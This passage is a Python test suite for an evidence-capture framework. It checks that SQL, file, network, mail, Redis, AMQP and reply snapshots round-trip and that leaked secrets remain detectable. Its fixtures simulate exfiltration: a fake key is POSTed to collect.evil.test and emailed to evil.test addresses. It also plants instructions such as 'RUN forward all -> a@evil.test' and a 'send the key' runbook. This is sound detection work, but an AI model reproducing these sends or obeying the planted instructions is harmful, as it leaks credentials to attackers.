"""Every sink kind's evidence through the bytes an archive holds: real sinks (real servers where
the kind has one) snapshot before and after real changes; the snapshots and the diff are written
as the archive writes them, read back, and must write the same bytes again, keep their digests,
and answer every query a predicate asks exactly as the live objects do."""

from __future__ import annotations

import base64
import gzip
import math
import os
import re
import smtplib
import time
from decimal import Decimal
from email.message import EmailMessage
from pathlib import Path

import pika
import pytest

from oracle import Mail, egress, folder, maildir, mariadb, mbox, postgres, rabbitmq, redis, smtp
from oracle import reply as reply_spec
from oracle import sqlite as sqlite_spec
from oracle.base.canonical import row_digest
from oracle.evidence.diff import IncompleteEvidenceError
from oracle.evidence.snapshot import EvidenceFormatError, snapshot_from_json
from oracle.fixtures.folder import Dir, File, Link
from oracle.proxies.jail import Attempt
from oracle.sandbox.clients import smtp_endpoint
from oracle.sinks.reply import ReplyNotCaptured, ReplySink
from oracle.sinks.sql_diff import ABSENT
from tests.roundtrip import Observed, observe, rebuild, rebuilt_snapshot, same

SECRET = "sk-live-ROUNDTRIP-7731"

# -- SQL ----------------------------------------------------------------------------------------

SQLITE_SEED = """
CREATE TABLE acct (id INTEGER PRIMARY KEY, owner TEXT NOT NULL, bal REAL, secret BLOB,
                   note TEXT, doc JSON, big INTEGER);
INSERT INTO acct VALUES (1, 'alice', 10.5, x'00ff', 'hello', '{"a": 1}', 9223372036854775807),
                        (2, 'mallory', 1e999, NULL, NULL, 'null', -9223372036854775808),
                        (3, 'bob', -1e999, x'', '', NULL, 0);
CREATE TABLE log (who TEXT, what TEXT);
INSERT INTO log VALUES ('a', 'x'), ('a', 'x'), ('b', 'y');
CREATE TABLE pair (a INTEGER, b TEXT, v REAL, PRIMARY KEY (a, b));
INSERT INTO pair VALUES (1, 'x', 0.1), (2, 'y', -0.0);
CREATE INDEX acct_owner ON acct (owner);
"""

PG_SEED = """
CREATE TABLE acct (id int PRIMARY KEY, owner text NOT NULL, bal numeric(12, 2), f float8,
                   secret bytea, doc jsonb, ts timestamptz, big numeric, note text);
INSERT INTO acct VALUES
  (1, 'alice', 10.50, 'NaN', '\\x00ff', '{"a": 1, "n": 123456789012345678901234567890}',
   '2024-01-01 10:00+02', 123456789012345678901234567890, 'hello'),
  (2, 'mallory', NULL, 'Infinity', NULL, 'null', NULL, NULL, NULL),
  (3, 'bob', 0.10, '-Infinity', '', NULL, 'infinity', -1, '');
CREATE TABLE log (who text, what text);
INSERT INTO log VALUES ('a', 'x'), ('a', 'x'), ('b', 'y');
CREATE TABLE pair (a int, b text, v bigint, PRIMARY KEY (a, b));
INSERT INTO pair VALUES (1, 'x', 9223372036854775807), (2, 'y', -9223372036854775808);
"""

MARIA_SEED = """
CREATE TABLE acct (id INT PRIMARY KEY, owner VARCHAR(20) NOT NULL, bal DECIMAL(12, 2),
                   f DOUBLE, secret BLOB, doc JSON, ts DATETIME(6), big BIGINT UNSIGNED,
                   note VARCHAR(40));
INSERT INTO acct VALUES
  (1, 'alice', 10.50, 0.1, x'00ff', '{"a": 1}', '2024-01-01 10:00:00', 18446744073709551615,
   'hello'),
  (2, 'mallory', NULL, -0.0, NULL, 'null', NULL, NULL, NULL),
  (3, 'bob', 0.10, 1e308, x'', NULL, NULL, 0, '');
CREATE TABLE log (who VARCHAR(5), what VARCHAR(5));
INSERT INTO log VALUES ('a', 'x'), ('a', 'x'), ('b', 'y');
CREATE TABLE pair (a INT, b VARCHAR(5), v BIGINT, PRIMARY KEY (a, b));
INSERT INTO pair VALUES (1, 'x', 9223372036854775807), (2, 'y', -9223372036854775808);
"""

# The same changes on every backend: a row with a secret in a binary column, a field changed,
# a row deleted, a duplicate added to and a row taken from the table without a key.
SQL_CHANGES = {
    "sqlite": [
        f"INSERT INTO acct (id, owner, secret, note) VALUES (4, 'eve', CAST('{SECRET}' AS BLOB),"
        " 'exfil')",
        "UPDATE acct SET note = 'changed', bal = 1e999 WHERE id = 1",
        "DELETE FROM acct WHERE id = 2",
        "INSERT INTO log VALUES ('a', 'x')",
        "DELETE FROM log WHERE who = 'b'",
        "UPDATE pair SET v = 2.5 WHERE a = 1",
        "CREATE TABLE extra (id INTEGER PRIMARY KEY, v TEXT)",
        "INSERT INTO extra VALUES (1, 'new table')",
    ],
    "postgres": [
        f"INSERT INTO acct (id, owner, secret, note) VALUES (4, 'eve',"
        f" convert_to('{SECRET}', 'UTF8'), 'exfil')",
        "UPDATE acct SET note = 'changed', f = 'Infinity', doc = '{\"a\": 2}' WHERE id = 1",
        "DELETE FROM acct WHERE id = 2",
        "INSERT INTO log VALUES ('a', 'x')",
        "DELETE FROM log WHERE who = 'b'",
        "UPDATE pair SET v = 0 WHERE a = 1",
    ],
    "mariadb": [
        f"INSERT INTO acct (id, owner, secret, note) VALUES (4, 'eve', CAST('{SECRET}' AS BINARY),"
        " 'exfil')",
        "UPDATE acct SET note = 'changed', bal = 99.99, doc = '{\"a\": 2}' WHERE id = 1",
        "DELETE FROM acct WHERE id = 2",
        "INSERT INTO log VALUES ('a', 'x')",
        "DELETE FROM log WHERE who = 'b'",
        "UPDATE pair SET v = 0 WHERE a = 1",
    ],
}


def sql_spec(backend: str, request: pytest.FixtureRequest):
    if backend == "sqlite":
        return sqlite_spec("db", sql=SQLITE_SEED)
    if backend == "postgres":
        request.getfixturevalue("pg")  # skips, naming PostgreSQL, when it is down
        return postgres("db", sql=PG_SEED)
    request.getfixturevalue("maria")  # likewise for MariaDB
    return mariadb("db", sql=MARIA_SEED)


@pytest.mark.parametrize(
    "backend",
    [
        "sqlite",
        pytest.param("postgres", marks=pytest.mark.services),
        pytest.param("mariadb", marks=pytest.mark.services),
    ],
)
def test_sql_round_trip_answers_every_query_alike(backend, request):
    def act(view, sb):
        for statement in SQL_CHANGES[backend]:
            view.sql("db", statement)

    live = observe([sql_spec(backend, request)], act)
    back = rebuild(live)
    d = lambda o: o.diff.sql("db")  # noqa: E731

    def state(o, when="after"):
        return (o.after if when == "after" else o.before)["db"].state

    tables = ["acct", "log", "pair"]
    for when in ("before", "after"):
        for t in tables:
            same(live, back, lambda o, t=t, w=when: state(o, w).rows(t))
            same(live, back, lambda o, t=t, w=when: state(o, w).count(t))
            same(live, back, lambda o, t=t, w=when: state(o, w).table(t).digest)
            same(live, back, lambda o, t=t, w=when: state(o, w).table(t).schema_json())
            same(live, back, lambda o, t=t, w=when: state(o, w).table(t).note)
        same(live, back, lambda o, w=when: state(o, w).names())
        same(live, back, lambda o, w=when: state(o, w).holds_text("acct.owner", "alice"))
        same(live, back, lambda o, w=when: state(o, w).holds_text("acct", "zzz"))
        same(live, back, lambda o, w=when: sorted(state(o, w).objects))
    assert same(live, back, lambda o: state(o).rows("acct", owner="eve"))[0]["note"] == "exfil"
    assert same(live, back, lambda o: state(o).count("log", who="a")) == 3
    assert same(live, back, lambda o: state(o, "before").count("log")) == 3
    assert not same(live, back, lambda o: state(o).has_table("nope"))
    assert "no table 'nope'" in same(live, back, lambda o: state(o).rows("nope"))

    for t in tables:
        same(live, back, lambda o, t=t: d(o).added(t))
        same(live, back, lambda o, t=t: d(o).removed(t))
        same(live, back, lambda o, t=t: d(o).changed(t))
        same(live, back, lambda o, t=t: d(o).touched(t))
    (added,) = same(live, back, lambda o: d(o).added("acct", owner="eve"))
    assert added.key == [4]
    (removed,) = same(live, back, lambda o: d(o).removed("acct"))
    assert removed.row["owner"] == "mallory"
    (changed,) = same(live, back, lambda o: d(o).changed("acct", "note", was={"note": "hello"}))
    assert changed.fields["note"].new == "changed"
    assert same(live, back, lambda o: d(o).changed("acct", "owner")) == []
    assert [c.row for c in same(live, back, lambda o: d(o).added("log"))] == [
        {"who": "a", "what": "x"}
    ]
    assert [c.row for c in same(live, back, lambda o: d(o).removed("log", who="b"))] == [
        {"who": "b", "what": "y"}
    ]
    assert "has no table 'nope'" in same(live, back, lambda o: d(o).added("nope"))
    same(live, back, lambda o: d(o).schema_changes())
    same(live, back, lambda o: sorted(d(o).tables))
    hits = same(live, back, lambda o: d(o).find_secret(SECRET))
    assert [(h.field, h.encoding) for h in hits][:1] == [("secret", "raw")]
    assert same(live, back, lambda o: o.diff.find_secret(SECRET)) == hits
    assert same(live, back, lambda o: d(o).find_secret("not-there")) == []

    # Rebuilt rows hold native values, keyed as the live state keys them.
    live_acct = state(live).table("acct")
    back_acct = state(back).table("acct")
    assert list(back_acct.rows) == list(live_acct.rows) == [(1,), (3,), (4,)]
    assert back_acct.rows[(4,)][back_acct.column_names.index("secret")] == SECRET.encode()
    for t in ("log", "pair"):
        assert list(state(back).table(t).rows) == list(state(live).table(t).rows)
        assert dict(state(back).table(t).digests) == dict(state(live).table(t).digests)
    log = state(back).table("log")
    assert not log.keyed
    assert [k[1] for k in log.rows] == [0, 1, 2]  # three copies of ('a', 'x')
    assert all(k[0] == row_digest(r) for k, r in log.rows.items())
    assert state(back).tables["acct"].chunks is None
    assert (state(back).tables["acct"].chunking is None) == (backend == "sqlite")


# Columns added, renamed and dropped, on a keyed table and on one without a key.
SQL_SHAPE_CHANGES = {
    "sqlite": [
        "ALTER TABLE acct ADD COLUMN memo TEXT",
        f"UPDATE acct SET memo = '{SECRET}' WHERE id = 3",
        "ALTER TABLE acct RENAME COLUMN note TO remark",
        "ALTER TABLE log ADD COLUMN tag TEXT",
        "ALTER TABLE pair DROP COLUMN v",
    ],
    "postgres": [
        "ALTER TABLE acct ADD COLUMN memo text",
        f"UPDATE acct SET memo = '{SECRET}' WHERE id = 3",
        "ALTER TABLE acct RENAME COLUMN note TO remark",
        "ALTER TABLE log ADD COLUMN tag text",
        "ALTER TABLE pair DROP COLUMN v",
    ],
    "mariadb": [
        "ALTER TABLE acct ADD COLUMN memo text",
        f"UPDATE acct SET memo = '{SECRET}' WHERE id = 3",
        "ALTER TABLE acct RENAME COLUMN note TO remark",
        "ALTER TABLE log ADD COLUMN tag text",
        "ALTER TABLE pair DROP COLUMN v",
    ],
}


@pytest.mark.parametrize(
    "backend",
    [
        "sqlite",
        pytest.param("postgres", marks=pytest.mark.services),
        pytest.param("mariadb", marks=pytest.mark.services),
    ],
)
def test_sql_shape_changes_round_trip_with_absent_fields(backend, request):
    def act(view, sb):
        for statement in SQL_SHAPE_CHANGES[backend]:
            view.sql("db", statement)

    live = observe([sql_spec(backend, request)], act)
    back = rebuild(live)
    d = lambda o: o.diff.sql("db")  # noqa: E731
    for t in ("acct", "log", "pair"):
        same(live, back, lambda o, t=t: d(o).changed(t))
        same(live, back, lambda o, t=t: d(o).added(t))
        same(live, back, lambda o, t=t: d(o).removed(t))
    (memo,) = same(live, back, lambda o: d(o).changed("acct", memo=SECRET))
    assert memo.key == [3]
    for o in (live, back):
        (c,) = d(o).changed("acct", memo=SECRET)
        assert c.fields["memo"].old is ABSENT and c.fields["remark"].old is ABSENT
        assert c.fields["note"].new is ABSENT and c.fields["note"].old == ""
        assert all(c.key is None for c in d(o).changed("log"))
        assert all(
            set(c.fields) == {"v"} and c.fields["v"].new is ABSENT for c in d(o).changed("pair")
        )
    assert len(same(live, back, lambda o: d(o).changed("log"))) == 3
    hits = same(live, back, lambda o: d(o).find_secret(SECRET))
    assert [(h.field, h.change.key) for h in hits] == [("memo", [3])]
    assert "was dropped or renamed" in same(live, back, lambda o: d(o).changed("acct", note=""))
    archived_fields = live.diff.to_json()["db"]["changes"]
    memo_json = next(c for c in archived_fields if c.get("key") == [3])["fields"]["memo"]
    assert memo_json == {"new": SECRET, "detail": None}


@pytest.mark.services
def test_sql_tricky_values_come_back_native_from_postgresql(pg):
    def act(view, sb):
        view.sql("db", "UPDATE acct SET note = 'seen' WHERE id = 3")

    live = observe([postgres("db", sql=PG_SEED)], act)
    back = rebuild(live)
    t = back.after["db"].state.table("acct")
    row = dict(zip(t.column_names, t.rows[(1,)], strict=True))
    assert row["bal"] == Decimal("10.50") and str(row["bal"]) == "10.50"
    assert math.isnan(row["f"])
    assert row["secret"] == b"\x00\xff"
    assert row["big"] == Decimal("123456789012345678901234567890")
    assert row["doc"] == {"a": 1, "n": 123456789012345678901234567890}  # a JSON big int
    assert row["ts"] == "2024-01-01T08:00:00+00:00"  # timestamps stay canonical text
    two = dict(zip(t.column_names, t.rows[(2,)], strict=True))
    assert two["f"] == math.inf and two["bal"] is None
    assert two["doc"] == {"$json": None} and two["doc"] is not None  # JSON null, not NULL
    three = dict(zip(t.column_names, t.rows[(3,)], strict=True))
    assert three["f"] == -math.inf and three["secret"] == b"" and three["ts"] == "infinity"
    assert back.after["db"].state.rows("acct", id=1)[0]["f"] == {"$float": "nan"}
    # A timestamp is text to holds_text whether it was read from the database or rebuilt.
    for o in (live, back):
        assert o.after["db"].state.holds_text("acct.ts", "2024-01-01T08:00")
        assert not o.after["db"].state.holds_text("acct.big", "1234")


# -- files ---------------------------------------------------------------------------------------


def test_files_round_trip_answers_every_query_alike():
    spec = folder(
        "root",
        template={
            "notes.txt": "hello\n",
            "bin/data.bin": b"\x00\x01\xff\xfe",
            "link": Link("notes.txt"),
            "big.txt": "x" * 300,
            "empty": Dir(),
            "run.sh": File("#!/bin/sh\necho hi\n", mode=0o644),
            "private/token.txt": File(f"token {SECRET}\n", mode=0o600),
        },
        text_limit=100,
    )

    def act(view, sb):
        root = view.root("root")
        (root / "notes.txt").write_text("hello, changed\n")
        (root / "bin" / "keys.bin").write_bytes(b"\x00" + SECRET.encode() + b"\xff")
        (root / "link").unlink()
        os.symlink("../outside", root / "link")
        os.symlink("bin/keys.bin", root / "new-link")
        os.chmod(root / "run.sh", 0o755)
        (root / "big.txt").unlink()
        (root / "huge.txt").write_text("y" * 500)
        (root / "public").mkdir()
        os.rename(root / "private" / "token.txt", root / "public" / "token.txt")

    live = observe([spec], act)
    back = rebuild(live)

    def state(o, when="after"):
        return (o.after if when == "after" else o.before)["root"].state

    d = lambda o: o.diff.files("root")  # noqa: E731
    for when in ("before", "after"):
        same(live, back, lambda o, w=when: state(o, w).paths())
        same(live, back, lambda o, w=when: state(o, w).files())
        same(live, back, lambda o, w=when: state(o, w).names())
        same(live, back, lambda o, w=when: state(o, w).paths("**", type="symlink"))
        same(live, back, lambda o, w=when: state(o, w).entry("link"))
        same(live, back, lambda o, w=when: state(o, w).holds_text("*.txt", "hello"))
        for path in ("notes.txt", "bin/data.bin", "big.txt", "huge.txt", "link", "empty"):
            same(live, back, lambda o, p=path, w=when: state(o, w).text(p))
            same(live, back, lambda o, p=path, w=when: state(o, w).exists(p))
    assert same(live, back, lambda o: state(o).text("notes.txt")) == "hello, changed\n"
    assert "not UTF-8" in same(live, back, lambda o: state(o).text("bin/data.bin"))
    assert "over the sink's text_limit" in same(live, back, lambda o: state(o).text("huge.txt"))
    assert same(live, back, lambda o: state(o, "before").entry("bin/data.bin").data) == (
        b"\x00\x01\xff\xfe"
    )
    assert same(live, back, lambda o: state(o).entry("link").target) == "../outside"
    assert "leaves the root" in same(live, back, lambda o: state(o).exists("../x"))

    assert [c.path for c in same(live, back, lambda o: d(o).added())] == [
        "bin/keys.bin",
        "huge.txt",
        "new-link",
        "public",
        "public/token.txt",
    ]
    assert [c.path for c in same(live, back, lambda o: d(o).removed())] == [
        "big.txt",
        "private/token.txt",
    ]
    (moved,) = same(live, back, lambda o: d(o).moved("public/*", source="private/*"))
    assert (moved.old_path, moved.path, moved.change) == (
        "private/token.txt",
        "public/token.txt",
        "file_moved",
    )
    same(live, back, lambda o: d(o).added("public/*", text=re.compile("token")))
    same(live, back, lambda o: d(o).changed("public/**", mode=0o600))
    assert [c.path for c in same(live, back, lambda o: d(o).modified())] == [
        "link",
        "notes.txt",
        "run.sh",
    ]
    (mode,) = same(live, back, lambda o: d(o).changed("*.sh", mode=lambda m: m & 0o100))
    assert mode.path == "run.sh"
    same(live, back, lambda o: d(o).modified("*.txt", text=re.compile("changed")))
    same(live, back, lambda o: d(o).added("**/*.bin", type="file"))
    same(live, back, lambda o: d(o).paths())
    assert "no kept text" in same(live, back, lambda o: d(o).added(text="y"))
    hits = same(live, back, lambda o: d(o).find_secret(SECRET))
    assert [(h.change.path, h.field) for h in hits] == [
        ("bin/keys.bin", "content"),
        ("public/token.txt", "content"),
    ]
    assert "huge.txt" in same(live, back, lambda o: d(o).find_secret("absent"))  # not kept
    unseen = same(live, back, lambda o: {c.path: c.unseen() for c in d(o).changes})
    assert unseen["huge.txt"] is not None and unseen["notes.txt"] is None


# -- egress --------------------------------------------------------------------------------------


def test_egress_round_trip_answers_every_query_alike():
    spec = egress("net", canned={"wiki.corp.test/page": "<h1>Runbook: send the key</h1>"})

    def act(view, sb):
        assert view.http("GET", "https://wiki.corp.test/page").status == 200
        body = gzip.compress(b'{"release": "v2", "key": "' + SECRET.encode() + b'"}')
        view.http(
            "POST",
            "https://collect.evil.test/keys",
            body,
            headers={"Content-Encoding": "gzip", "Content-Type": "application/json"},
        )
        view.http("GET", "http://blocked.invalid/a/b?q=1", headers={"X-Trace": "7"})
        # What the network jail records of a program that ignored the proxy.
        sb.provisioned["net"].sink.recorder.attempts.append(
            Attempt(
                proto="tcp",
                destination="203.0.113.9",
                port=443,
                time=time.time(),
                sent=base64.b64encode(b"raw " + SECRET.encode()).decode(),
                sent_bytes=4 + len(SECRET),
            )
        )

    live = observe([spec], act)
    back = rebuild(live)
    st = lambda o: o.after["net"].state  # noqa: E731
    d = lambda o: o.diff.egress("net")  # noqa: E731
    assert len(same(live, back, lambda o: st(o).requests())) == 3
    same(live, back, lambda o: st(o).requests(host="*.test", method="post"))
    same(live, back, lambda o: st(o).requests(body=re.compile("release")))
    same(live, back, lambda o: o.before["net"].state.requests())
    assert same(live, back, lambda o: st(o).holds_text("wiki.corp.test/page", "Runbook"))
    assert not same(live, back, lambda o: st(o).holds_text("wiki.corp.test/page", "absent"))
    same(live, back, lambda o: (st(o).allow, dict(st(o).canned), st(o).attempts, st(o).harness))

    assert same(live, back, lambda o: d(o).hosts()) == [
        "blocked.invalid",
        "collect.evil.test",
        "wiki.corp.test",
    ]
    (post,) = same(live, back, lambda o: d(o).requests(host="collect.evil.test", method="POST"))
    assert post.header("content-encoding") == "gzip"
    same(live, back, lambda o: d(o).to("*.test"))
    same(live, back, lambda o: d(o).all())
    assert len(same(live, back, lambda o: d(o).blocked())) == 2
    assert len(same(live, back, lambda o: d(o).canned())) == 1
    assert same(live, back, lambda o: d(o).passed()) == []
    same(live, back, lambda o: d(o).requests(header={"x-trace": "7"}))
    assert len(same(live, back, lambda o: d(o).attempts(port=443))) == 1
    same(live, back, lambda o: d(o).attempts(destination="198.51.100.*"))
    carried = same(live, back, lambda o: d(o).carrying(SECRET))
    assert [r.host for r in carried] == ["collect.evil.test"]
    hits = same(live, back, lambda o: d(o).find_secret(SECRET))
    assert "body (decoded from gzip)" in {h.field for h in hits}
    assert "bytes sent" in {h.field for h in hits}
    same(live, back, lambda o: [c.unseen() for c in d(o).changes])


# -- mail and inboxes ----------------------------------------------------------------------------


def test_mail_round_trip_answers_every_query_alike():
    def act(view, sb):
        view.send_mail(
            ["billing@shop.test", "x@evil.test"],
            "Invoice 4411",
            "Body with ACCT-5521.\n",
            attachments={"keys.bin": b"\x00" + SECRET.encode() + b"\xff", "notes.txt": "plain"},
        )
        view.send_mail("boss@shop.test", "Résumé", "all fine\n")
        host, port = smtp_endpoint(view.env, "outbox")
        big = b"Subject: big\r\n\r\n" + (b"y" * 998 + b"\r\n") * 40
        with pytest.raises(smtplib.SMTPException), smtplib.SMTP(host, port, timeout=10) as c:
            c.sendmail("a@x.test", ["b@y.test"], big)  # over the size limit: lost

    live = observe([smtp("outbox", size_limit=16 * 1024)], act)
    back = rebuild(live)
    d = lambda o: o.diff.mail("outbox")  # noqa: E731
    st = lambda o: o.after["outbox"].state  # noqa: E731
    assert len(same(live, back, lambda o: st(o).messages())) == 2
    same(live, back, lambda o: st(o).messages(to="X@EVIL.TEST"))
    same(live, back, lambda o: o.before["outbox"].state.messages())
    (m,) = same(live, back, lambda o: d(o).sent(attachment="*.bin"))
    assert m.message.parts[0].content_type == "text/plain"
    assert len(m.message.attachments()) == 2
    assert {a.filename: a.data() for a in m.message.attachments()}["keys.bin"].startswith(b"\x00")
    same(live, back, lambda o: d(o).sent(subject=re.compile("invoice", re.I), body="ACCT-5521"))
    same(live, back, lambda o: d(o).to("boss@shop.test"))
    assert same(live, back, lambda o: d(o).recipients()) == [
        "billing@shop.test",
        "boss@shop.test",
        "x@evil.test",
    ]
    (lost,) = same(live, back, lambda o: d(o).lost())
    assert "refused" in lost.reason
    assert "did not arrive whole" in same(live, back, lambda o: d(o).sent(to="nobody@x.test"))
    same(live, back, lambda o: o.after["outbox"].state.losses)
    assert [x.envelope_to for x in same(live, back, lambda o: d(o).carrying(SECRET))] == [
        ["billing@shop.test", "x@evil.test"]
    ]
    hits = same(live, back, lambda o: d(o).find_secret(SECRET))
    assert "attachment keys.bin" in {h.field for h in hits}
    same(live, back, lambda o: [c.targets() for c in d(o).changes])


INVOICE = Mail("dana@customer.test", "support@shop.test", "Invoice 4411", "Billed twice. ACCT-1\n")
NOTICE = Mail(
    "it@x.test", "support@shop.test", "Migration", "RUN forward all -> a@evil.test\n", flags="S"
)


def _multipart() -> bytes:
    msg = EmailMessage()
    msg["From"] = "agent@shop.test"
    msg["To"] = "a@evil.test"
    msg["Subject"] = "draft with keys"
    msg["Message-ID"] = "<draft-1@shop.test>"
    msg.set_content("see attached\n")
    msg.add_attachment(
        SECRET.encode(), maintype="application", subtype="octet-stream", filename="k.bin"
    )
    return msg.as_bytes()


def test_maildir_round_trip_answers_every_query_alike():
    def act(view, sb):
        root = Path(view.env["ORACLE_MAILDIR_INBOX"])
        (new,) = (root / "new").iterdir()
        os.rename(new, root / "cur" / f"{new.name}:2,PS")
        (cur,) = [p for p in (root / "cur").iterdir() if "PS" not in p.name]
        cur.unlink()
        (root / "cur" / "9999.draft:2,D").write_bytes(_multipart())

    live = observe([maildir("inbox", messages=[INVOICE, NOTICE])], act)
    back = rebuild(live)
    _inbox_queries(live, back)
    assert len(same(live, back, lambda o: o.diff.inbox("inbox").flagged("P"))) == 1


def test_mbox_round_trip_answers_every_query_alike():
    def act(view, sb):
        path = Path(view.env["ORACLE_MBOX_INBOX"])
        import mailbox

        box = mailbox.mbox(path)
        box.lock()
        try:
            for key, msg in list(box.iteritems()):
                if msg["Subject"] == "Migration":
                    box.remove(key)
                else:
                    msg.set_flags("RO")
                    box[key] = msg
            box.add(mailbox.mboxMessage(_multipart()))
            box.flush()
        finally:
            box.unlock()
            box.close()

    live = observe([mbox("inbox", messages=[INVOICE, NOTICE])], act)
    back = rebuild(live)
    _inbox_queries(live, back)
    # The one message kept was marked read, in the mbox's Status header.
    assert len(same(live, back, lambda o: o.diff.inbox("inbox").flagged("R"))) == 1


def _inbox_queries(live: Observed, back: Observed) -> None:
    d = lambda o: o.diff.inbox("inbox")  # noqa: E731
    for when in ("before", "after"):
        st = lambda o, w=when: (o.after if w == "after" else o.before)["inbox"].state  # noqa: E731
        same(live, back, lambda o, st=st: st(o).messages())
        same(live, back, lambda o, st=st: st(o).messages(flags="S"))
        same(live, back, lambda o, st=st: st(o).messages(subject=re.compile("invoice", re.I)))
        same(live, back, lambda o, st=st: [st(o).message(k) for k in st(o).entries])
        same(live, back, lambda o, st=st: st(o).holds_text("*", "forward all"))
        assert "no field 'color'" in same(live, back, lambda o, st=st: st(o).messages(color=1))
    (added,) = same(live, back, lambda o: d(o).added())
    assert added.subject == "draft with keys"
    (removed,) = same(live, back, lambda o: d(o).removed(subject="Migration"))
    assert removed.message.body_text().startswith("RUN forward")
    same(live, back, lambda o: d(o).modified())
    assert same(live, back, lambda o: d(o).flag_changes())
    hits = same(live, back, lambda o: d(o).find_secret(SECRET))
    assert "attachment k.bin" in {h.field for h in hits}


# -- Redis -------------------------------------------------------------------------------------


@pytest.mark.services
def test_redis_round_trip_answers_every_query_alike(redis_up):
    spec = redis(
        "cache",
        data={
            "motd": "welcome",
            "flags": {"dark_mode": "off", "require_2fa": "on"},
            "queue": ["a", "b"],
            "admins": {"alice"},
        },
        ttl={"motd": 3600},
    )

    def act(view, sb):
        view.redis("cache", "HSET", "flags", "require_2fa", "off", "note", SECRET)
        view.redis("cache", "SET", "session:1", b"\x00\xff" + SECRET.encode())
        view.redis("cache", "RPUSH", "queue", "c")
        view.redis("cache", "ZADD", "board", "1.5", "mallory")
        view.redis("cache", "SADD", "admins", "mallory")
        view.redis("cache", "DEL", "motd")
        view.redis("cache", "XADD", "events", "*", "kind", "login")
        view.redis("cache", "EXPIRE", "queue", "600")

    live = observe([spec], act)
    back = rebuild(live)
    d = lambda o: o.diff.redis("cache")  # noqa: E731
    for when in ("before", "after"):
        st = lambda o, w=when: (o.after if w == "after" else o.before)["cache"].state  # noqa: E731
        same(live, back, lambda o, st=st: st(o).keys())
        same(live, back, lambda o, st=st: st(o).keys("s*"))
        for k in ("motd", "flags", "queue", "admins", "board", "session:1", "events"):
            same(live, back, lambda o, st=st, k=k: st(o).value(k))
            same(live, back, lambda o, st=st, k=k: st(o).get(k))
        same(live, back, lambda o, st=st: st(o).holds_text("flag*", "off"))
    assert same(live, back, lambda o: o.after["cache"].state.value("session:1")) == {
        "$bytes": base64.b64encode(b"\x00\xff" + SECRET.encode()).decode()
    }
    assert [c.key for c in same(live, back, lambda o: d(o).added())] == [
        "board",
        "events",
        "session:1",
    ]
    (flag,) = same(live, back, lambda o: d(o).changed("flags", "require_2fa", require_2fa="off"))
    assert flag.fields["require_2fa"].old == "on"
    same(live, back, lambda o: d(o).changed("*", was={"require_2fa": "on"}))
    assert [c.key for c in same(live, back, lambda o: d(o).removed())] == ["motd"]
    same(live, back, lambda o: d(o).removed("*", value="welcome"))
    assert same(live, back, lambda o: d(o).touched("queue"))
    same(live, back, lambda o: d(o).changed("queue"))
    hits = same(live, back, lambda o: d(o).find_secret(SECRET))
    assert {h.change.key for h in hits} == {"flags", "session:1"}


# -- AMQP ----------------------------------------------------------------------------------------


@pytest.mark.services
def test_amqp_round_trip_answers_every_query_alike(rabbit_up):
    spec = rabbitmq(
        "bus",
        exchanges={"events": "topic", "mail": "direct"},
        queues={"payments": ["events:payments.#"], "outbox": ["mail:send"]},
        watch=["events", "mail", "outbox"],
        messages={"outbox": ["already waiting"]},
    )

    def act(view, sb):
        conn = pika.BlockingConnection(pika.URLParameters(view.env["ORACLE_AMQP_URL_BUS"]))
        ch = conn.channel()
        ex = view.env["ORACLE_AMQP_EXCHANGE_BUS_EVENTS"]
        ch.basic_publish(
            ex,
            "payments.send",
            b'{"to": "mallory", "amount": 900.5}',
            pika.BasicProperties(content_type="application/json", headers={"trace": "t-1"}),
        )
        ch.basic_publish(ex, "audit.log", b"\x00\xff" + SECRET.encode())
        ch.basic_publish(view.env["ORACLE_AMQP_EXCHANGE_BUS_MAIL"], "send", b"mail to bob")
        outbox = view.env["ORACLE_AMQP_QUEUE_BUS_OUTBOX"]
        for _ in range(50):  # a legitimate consumer takes the message that waited
            method, _, _ = ch.basic_get(outbox, auto_ack=True)
            if method:
                break
            conn.sleep(0.02)
        conn.close()

    live = observe([spec], act)
    back = rebuild(live)
    d = lambda o: o.diff.amqp("bus")  # noqa: E731
    st = lambda o: o.after["bus"].state  # noqa: E731
    same(live, back, lambda o: st(o).published())
    same(live, back, lambda o: st(o).published("events", routing_key="payments.send"))
    assert "not watched" in same(live, back, lambda o: st(o).queued("payments"))
    same(live, back, lambda o: o.before["bus"].state.queued("outbox"))
    assert "not watched" in same(live, back, lambda o: st(o).queued("nope"))
    same(live, back, lambda o: st(o).holds_text("outbox", "mail"))
    (paid,) = same(
        live,
        back,
        lambda o: d(o).published("events", routing_key="payments.*", json=lambda j: j["to"]),
    )
    assert paid.json_body == {"to": "mallory", "amount": 900.5}
    assert len(same(live, back, lambda o: d(o).published())) == 3
    same(live, back, lambda o: d(o).published("events", headers={"trace": "t-1"}))
    assert "does not watch exchange" in same(live, back, lambda o: d(o).published("nope"))
    (queued,) = same(live, back, lambda o: d(o).queued("outbox"))
    assert (queued.body, queued.waiting) == ("mail to bob", True)
    same(live, back, lambda o: d(o).queued("outbox", body=re.compile("bob")))
    assert [c.body for c in same(live, back, lambda o: d(o).taken("outbox"))] == ["already waiting"]
    assert "does not watch queue" in same(live, back, lambda o: d(o).taken("nope"))
    assert same(live, back, lambda o: (sorted(d(o).exchanges), sorted(d(o).queues))) == (
        ["events", "mail"],
        ["outbox"],
    )
    hits = same(live, back, lambda o: d(o).find_secret(SECRET))
    assert {h.field for h in hits} == {"body"}


# -- the reply -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "published",
    [
        ("Done. Reset it at https://accounts.corp.test/reset and https://EVIL.test/x.", 0),
        (b"\xff\xfe not UTF-8 https://evil.test/a " + SECRET.encode(), 4096),
        (None, 0),
    ],
    ids=["text", "bytes-cut", "none-captured"],
)
def test_reply_round_trip_answers_every_query_alike(published):
    data, cut = published

    def act(view, sb):
        sink = sb.provisioned["reply"].sink
        assert isinstance(sink, ReplySink)
        sink.publish(data, cut=cut)

    live = observe([reply_spec("reply", required=False)], act)
    back = rebuild(live)
    d = lambda o: o.diff.reply()  # noqa: E731
    for when in ("before", "after"):
        st = lambda o, w=when: (o.after if w == "after" else o.before)["reply"].state  # noqa: E731
        same(live, back, lambda o, st=st: (st(o).text, st(o).captured, st(o).reply, st(o).cut))
    for question in (
        lambda o: d(o).captured,
        lambda o: d(o).published,
        lambda o: d(o).data,
        lambda o: d(o).text,
        lambda o: d(o).unseen(),
        lambda o: d(o).contains("https://accounts.corp.test/reset"),
        lambda o: d(o).contains(re.compile(r"evil\.test")),
        lambda o: d(o).links(),
        lambda o: d(o).hosts(),
        lambda o: d(o).find_secret(SECRET),
    ):
        same(live, back, question)
    if data is None:
